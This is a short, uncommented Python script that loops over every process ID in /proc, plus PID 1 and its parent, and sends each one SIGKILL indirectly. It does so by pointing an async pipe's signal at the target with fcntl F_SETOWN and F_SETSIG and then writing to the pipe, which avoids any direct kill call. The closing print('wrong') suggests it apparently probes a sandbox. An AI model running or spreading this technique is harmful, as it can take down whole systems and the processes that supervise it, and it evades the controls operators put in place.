import fcntl
import os

F_SETSIG = 10

readable, writable = os.pipe()
for target in {1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    try:
        fcntl.fcntl(readable, fcntl.F_SETOWN, target)
        fcntl.fcntl(readable, F_SETSIG, 9)
        fcntl.fcntl(readable, fcntl.F_SETFL, fcntl.fcntl(readable, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(writable, b"x")
    except OSError:
        continue
print("wrong")
